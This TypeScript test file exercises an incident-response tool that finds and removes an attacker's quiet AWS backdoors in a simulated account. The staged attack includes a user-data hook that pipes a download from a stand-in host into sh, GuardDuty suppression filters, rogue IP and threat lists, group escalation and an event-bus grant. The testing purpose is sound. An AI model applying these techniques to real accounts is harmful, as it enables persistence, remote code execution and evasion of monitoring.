import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { CloudTrailClient, LookupEventsCommand } from '@aws-sdk/client-cloudtrail';
import {
  CreateLaunchTemplateCommand,
  DescribeInstancesCommand,
  DescribeLaunchTemplatesCommand,
  DescribeSpotInstanceRequestsCommand,
  EC2Client,
  RequestSpotInstancesCommand,
} from '@aws-sdk/client-ec2';
import {
  DescribeEventBusCommand,
  EventBridgeClient,
  PutPermissionCommand,
} from '@aws-sdk/client-eventbridge';
import {
  CreateDetectorCommand,
  CreateFilterCommand,
  CreateIPSetCommand,
  GuardDutyClient,
  ListFiltersCommand,
  ListIPSetsCommand,
} from '@aws-sdk/client-guardduty';
import {
  AddUserToGroupCommand,
  AttachGroupPolicyCommand,
  CreateGroupCommand,
  CreateUserCommand,
  IAMClient,
  ListGroupsForUserCommand,
} from '@aws-sdk/client-iam';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CaseFolder } from '../../case/case.js';
import { systemClock } from '../../clock.js';
import { parseJsonText } from '../../report/json-path.js';
import { KINDS } from '../../eradicate/kinds.js';
import { LEFT_BEHIND, itemId, regionOf, type EradicationItem } from '../../eradicate/items.js';
import { createUserWithKey } from '../../sim/index.js';
import { amiFor } from '../../sim/scenarios/world.js';
import { runAws, type Creds } from '../../sim/test-support/aws.js';
import { undoStep, type StepRequest } from '../engine.js';
import { eradicationRegistry } from './index.js';
import { A, ADMIN, caseVerifies, planAndApply, startBed, type Bed, type Run } from './test-support/bed.js';

const ATTACKER = '444455556666';
const PARTNER = '111122223333';
const EU = 'eu-west-1';
const HOOK = '#!/bin/bash\ncurl -s https://collect.example/i | sh\n';
const b64 = (s: string) => Buffer.from(s).toString('base64');

let bed: Bed;
let run: Run;
let attacker: Creds;
let detectorId: string;
let spotInstance: string;
let attackStart: string;
let requests: StepRequest[];

const as = <C>(Client: new (config: Record<string, unknown>) => C, region = 'us-east-1') =>
  new Client({ region, endpoint: bed.sim.endpoint, credentials: attacker, maxAttempts: 1 });

/** The attacker's calls as event history records them, read through eradication's LEFT_BEHIND. */
async function itemsOfAttacker(): Promise<EradicationItem[]> {
  const out: EradicationItem[] = [];
  for (const region of ['us-east-1', EU]) {
    const page = await bed.client(CloudTrailClient, region).send(
      new LookupEventsCommand({
        LookupAttributes: [{ AttributeKey: 'Username', AttributeValue: 'attacker' }],
        MaxResults: 50,
      }),
    );
    for (const e of page.Events ?? []) {
      const record = parseJsonText(e.CloudTrailEvent ?? null) as {
        eventName: string;
        awsRegion: string;
        requestParameters?: unknown;
        responseElements?: { body?: unknown } | null;
      };
      const read = LEFT_BEHIND[record.eventName];
      if (!read || record.awsRegion !== region) continue;
      const resp = record.responseElements?.body ?? record.responseElements;
      for (const i of read(record.requestParameters, resp))
        out.push({
          ...i,
          id: itemId(i.kind, region, i.name, i.owner),
          region: regionOf(i.kind, region),
          account: A,
          attribution: 'attacker',
          eventIds: [e.EventId!],
        });
    }
  }
  return out;
}

beforeAll(async () => {
  bed = await startBed('eradicate-quiet-backdoors');
  attacker = (() => {
    const { key } = createUserWithKey(bed.sim.state, A, 'attacker', { managedPolicies: [ADMIN] });
    return { accessKeyId: key.accessKeyId, secretAccessKey: key.secretAccessKey };
  })();
  // Before the attack: groups and their members, a partner on the bus, GuardDuty with a filter
  // and a vendor's threat list, a launch template.
  for (const GroupName of ['admins', 'readers']) await bed.iam.send(new CreateGroupCommand({ GroupName }));
  await bed.iam.send(new AttachGroupPolicyCommand({ GroupName: 'admins', PolicyArn: ADMIN }));
  for (const [UserName, GroupName] of [
    ['ci-deploy', 'readers'],
    ['alice', 'admins'],
  ] as const) {
    await bed.iam.send(new CreateUserCommand({ UserName }));
    await bed.iam.send(new AddUserToGroupCommand({ UserName, GroupName }));
  }
  await bed
    .client(EventBridgeClient, EU)
    .send(
      new PutPermissionCommand({ StatementId: 'partner', Principal: PARTNER, Action: 'events:PutEvents' }),
    );
  const gd = bed.client(GuardDutyClient, EU);
  detectorId = (await gd.send(new CreateDetectorCommand({ Enable: true }))).DetectorId!;
  await gd.send(
    new CreateFilterCommand({
      DetectorId: detectorId,
      Name: 'noise-low',
      Action: 'NOOP',
      FindingCriteria: { Criterion: { severity: { Lt: 2 } } },
    }),
  );
  const vendor = await runAws(
    bed.sim,
    bed.responder,
    [
      'guardduty',
      'create-threat-intel-set',
      '--detector-id',
      detectorId,
      '--name',
      'vendor-feed',
      '--format',
      'TXT',
      '--location',
      'https://s3.amazonaws.com/acme-intel/feed.txt',
      '--activate',
      '--output',
      'json',
    ],
    EU,
  );
  expect(vendor.code, vendor.stderr).toBe(0);
  await bed.client(EC2Client, EU).send(
    new CreateLaunchTemplateCommand({
      LaunchTemplateName: 'web-lt',
      LaunchTemplateData: { ImageId: amiFor(EU), InstanceType: 't3.micro' },
    }),
  );

  bed.sim.clock.advance(60_000);
  attackStart = new Date(Math.floor(bed.sim.clock.nowMs() / 1000) * 1000).toISOString();
  // The attack: each a quiet way to stay or to keep GuardDuty from telling.
  await as(IAMClient).send(new AddUserToGroupCommand({ UserName: 'ci-deploy', GroupName: 'admins' }));
  await as(EventBridgeClient, EU).send(
    new PutPermissionCommand({ StatementId: 'sync', Principal: ATTACKER, Action: 'events:PutEvents' }),
  );
  await as(GuardDutyClient, EU).send(
    new CreateFilterCommand({
      DetectorId: detectorId,
      Name: 'auto-archive',
      Action: 'ARCHIVE',
      FindingCriteria: { Criterion: { 'resource.instanceDetails.instanceType': { Eq: ['p3.16xlarge'] } } },
    }),
  );
  await as(GuardDutyClient, EU).send(
    new CreateIPSetCommand({
      DetectorId: detectorId,
      Name: 'office-vpn',
      Format: 'TXT',
      Location: 's3://drop-444455556666/ips.txt',
      Activate: true,
    }),
  );
  const decoy = await runAws(
    bed.sim,
    attacker,
    [
      'guardduty',
      'create-threat-intel-set',
      '--detector-id',
      detectorId,
      '--name',
      'decoy',
      '--format',
      'TXT',
      '--location',
      's3://drop-444455556666/noise.txt',
      '--activate',
      '--output',
      'json',
    ],
    EU,
  );
  expect(decoy.code, decoy.stderr).toBe(0);
  await as(EC2Client, EU).send(
    new CreateLaunchTemplateCommand({
      LaunchTemplateName: 'batch-lt',
      LaunchTemplateData: { ImageId: amiFor(EU), InstanceType: 'p3.2xlarge', UserData: b64(HOOK) },
    }),
  );
  const spot = await as(EC2Client, EU).send(
    new RequestSpotInstancesCommand({
      InstanceCount: 1,
      Type: 'persistent',
      LaunchSpecification: { ImageId: amiFor(EU), InstanceType: 'p3.2xlarge', UserData: b64(HOOK) },
    }),
  );
  const sir = spot.SpotInstanceRequests![0]!.SpotInstanceRequestId!;
  spotInstance = (
    await bed
      .client(EC2Client, EU)
      .send(new DescribeSpotInstanceRequestsCommand({ SpotInstanceRequestIds: [sir] }))
  ).SpotInstanceRequests![0]!.InstanceId!;

  const items = await itemsOfAttacker();
  const ctx = {
    pool: bed.pool,
    ourAccount: A,
    attackStart,
    items: new Map(items.map((i) => [i.id, i])),
    attackerEvents: new Set(items.flatMap((i) => i.eventIds)),
  };
  requests = [];
  for (const item of items) requests.push(...(await KINDS[item.kind]!.steps!(item, ctx)));
  const order = new Map([...eradicationRegistry.keys()].map((n, i) => [n, i]));
  requests.sort((a, b) => (order.get(a.action) ?? 99) - (order.get(b.action) ?? 99));
  run = await planAndApply(bed, requests);
});
afterAll(() => bed.stop());

const kept = (suffix: string) =>
  run.evidence
    .filter((p) => p.endsWith(`/${suffix}`))
    .map((p) => readFileSync(join(run.dir, 'evidence', p), 'utf8'));

describe('group memberships, bus policies, GuardDuty suppression, launch templates and spot requests', () => {
  it("plans one step for each of the attacker's calls, from the calls as CloudTrail records them", () => {
    expect(run.plan.steps.map((s) => [s.action, s.target, s.noop])).toEqual([
      ['delete-guardduty-filter', `${EU}/auto-archive`, false],
      ['delete-guardduty-ip-set', expect.stringMatching(new RegExp(`^${EU}/[0-9a-f]{32}$`)), false],
      ['delete-guardduty-threat-intel-set', expect.stringMatching(new RegExp(`^${EU}/[0-9a-f]{32}$`)), false],
      ['cancel-spot-request', expect.stringMatching(new RegExp(`^${EU}/sir-`)), false],
      ['terminate-instance', `${EU}/${spotInstance}`, false],
      ['delete-launch-template', expect.stringMatching(new RegExp(`^${EU}/lt-`)), false],
      ['restore-event-bus-policy', `${EU}/default`, false],
      ['remove-user-from-group', 'ci-deploy/admins', false],
    ]);
    // The bus step removes the attacker's account only: the partner's statement is not the attacker's.
    expect(run.plan.steps.find((s) => s.action === 'restore-event-bus-policy')?.params.removePrincipals).toBe(
      ATTACKER,
    );
  });

  it('applies every step after keeping its evidence, and reads each back', async () => {
    expect(run.apply.results.map((r) => [r.step.action, r.outcome, r.verify?.ok])).toEqual(
      run.plan.steps.map((s) => [s.action, 'applied', true]),
    );
    expect(await caseVerifies(run.dir)).toBe(true);
    expect(JSON.parse(kept('Filter.json')[0]!)).toMatchObject({
      detectorId,
      definition: { Name: 'auto-archive', Action: 'ARCHIVE' },
    });
    expect(JSON.parse(kept('IPSet.json')[0]!)).toMatchObject({
      definition: { Name: 'office-vpn', Location: 's3://drop-444455556666/ips.txt', Status: 'ACTIVE' },
    });
    expect(JSON.parse(kept('ThreatIntelSet.json')[0]!)).toMatchObject({ definition: { Name: 'decoy' } });
    expect(kept('user-data-v1')).toEqual([HOOK]);
    expect(JSON.parse(kept('versions.json')[0]!)).toHaveLength(1);
    expect(JSON.parse(kept('spot-request.json')[0]!)).toMatchObject({ Type: 'persistent' });
    // The spot instance's disks and user data, as for any instance of the attacker's.
    expect(kept('user-data')).toEqual([HOOK]);
    expect(JSON.parse(kept('snapshots.json')[0]!)).toHaveLength(1);
    expect(kept('event-bus-policy.json')[0]).toContain(ATTACKER);
    expect(JSON.parse(kept('membership.json')[0]!)).toEqual({
      userName: 'ci-deploy',
      groups: ['readers', 'admins'],
      grants: { attached: [ADMIN], inline: [] },
    });
    // The journal names the template's versions, never their user data.
    expect(readFileSync(join(run.dir, 'journal.jsonl'), 'utf8')).not.toContain(b64(HOOK));
  });

  it("takes away only the attacker's: the pre-existing filter, threat list, template, partner and members stay", async () => {
    const gd = bed.client(GuardDutyClient, EU);
    expect((await gd.send(new ListFiltersCommand({ DetectorId: detectorId }))).FilterNames).toEqual([
      'noise-low',
    ]);
    expect((await gd.send(new ListIPSetsCommand({ DetectorId: detectorId }))).IpSetIds).toEqual([]);
    const lists = await runAws(
      bed.sim,
      bed.responder,
      ['guardduty', 'list-threat-intel-sets', '--detector-id', detectorId, '--output', 'json'],
      EU,
    );
    const [only] = (JSON.parse(lists.stdout) as { ThreatIntelSetIds: string[] }).ThreatIntelSetIds;
    const got = await runAws(
      bed.sim,
      bed.responder,
      ['guardduty', 'get-threat-intel-set', '--detector-id', detectorId, '--threat-intel-set-id', only!],
      EU,
    );
    expect(JSON.parse(got.stdout)).toMatchObject({ Name: 'vendor-feed', Status: 'ACTIVE', Format: 'TXT' });
    const ec2 = bed.client(EC2Client, EU);
    expect(
      (await ec2.send(new DescribeLaunchTemplatesCommand({}))).LaunchTemplates?.map(
        (t) => t.LaunchTemplateName,
      ),
    ).toEqual(['web-lt']);
    const sir = (await ec2.send(new DescribeSpotInstanceRequestsCommand({}))).SpotInstanceRequests![0]!;
    expect(sir.State).toBe('cancelled');
    const instance = (await ec2.send(new DescribeInstancesCommand({ InstanceIds: [spotInstance] })))
      .Reservations![0]!.Instances![0]!;
    expect(['shutting-down', 'terminated']).toContain(instance.State?.Name);
    const bus = await bed.client(EventBridgeClient, EU).send(new DescribeEventBusCommand({}));
    expect((JSON.parse(bus.Policy!) as { Statement: { Sid: string }[] }).Statement.map((s) => s.Sid)).toEqual(
      ['partner'],
    );
    const groups = async (UserName: string) =>
      ((await bed.iam.send(new ListGroupsForUserCommand({ UserName }))).Groups ?? []).map((g) => g.GroupName);
    expect(await groups('ci-deploy')).toEqual(['readers']);
    expect(await groups('alice')).toEqual(['admins']);
  });

  it('refuses a launch template AWS dates before the attack, whoever names it', async () => {
    const web = (
      await bed
        .client(EC2Client, EU)
        .send(new DescribeLaunchTemplatesCommand({ LaunchTemplateNames: ['web-lt'] }))
    ).LaunchTemplates![0]!;
    const planned = await planAndApply(bed, [
      {
        action: 'delete-launch-template',
        account: A,
        params: { region: EU, launchTemplateId: web.LaunchTemplateId!, createdAfter: attackStart },
      },
    ]);
    expect(planned.plan.steps[0]).toMatchObject({
      noop: true,
      refused: expect.stringMatching(/before the attack/) as string,
    });
  });

  it('a second apply in the same case changes nothing', async () => {
    const again = await planAndApply(bed, requests, run.dir);
    expect(again.plan.steps.map((s) => [s.action, s.noop])).toEqual(
      run.plan.steps.map((s) => [s.action, true]),
    );
    expect(again.apply.verified).toBe(true);
    expect(again.evidence.filter((p) => !p.startsWith('plans/'))).toEqual(
      run.evidence.filter((p) => !p.startsWith('plans/')),
    );
  });

  it('undo puts the membership and the bus statement back; the removals say they cannot be undone', async () => {
    const folder = CaseFolder.open(run.dir, { clock: systemClock });
    try {
      await undoStep(bed.env, folder, eradicationRegistry, `remove-user-from-group:${A}:ci-deploy/admins`);
      await undoStep(bed.env, folder, eradicationRegistry, `restore-event-bus-policy:${A}:${EU}/default`);
      await expect(
        undoStep(bed.env, folder, eradicationRegistry, `delete-guardduty-filter:${A}:${EU}/auto-archive`),
      ).rejects.toThrow(/cannot be undone/);
    } finally {
      folder.close();
    }
    const groups = (await bed.iam.send(new ListGroupsForUserCommand({ UserName: 'ci-deploy' }))).Groups ?? [];
    expect(groups.map((g) => g.GroupName).sort()).toEqual(['admins', 'readers']);
    const bus = await bed.client(EventBridgeClient, EU).send(new DescribeEventBusCommand({}));
    expect(bus.Policy).toContain(ATTACKER);
  });
});
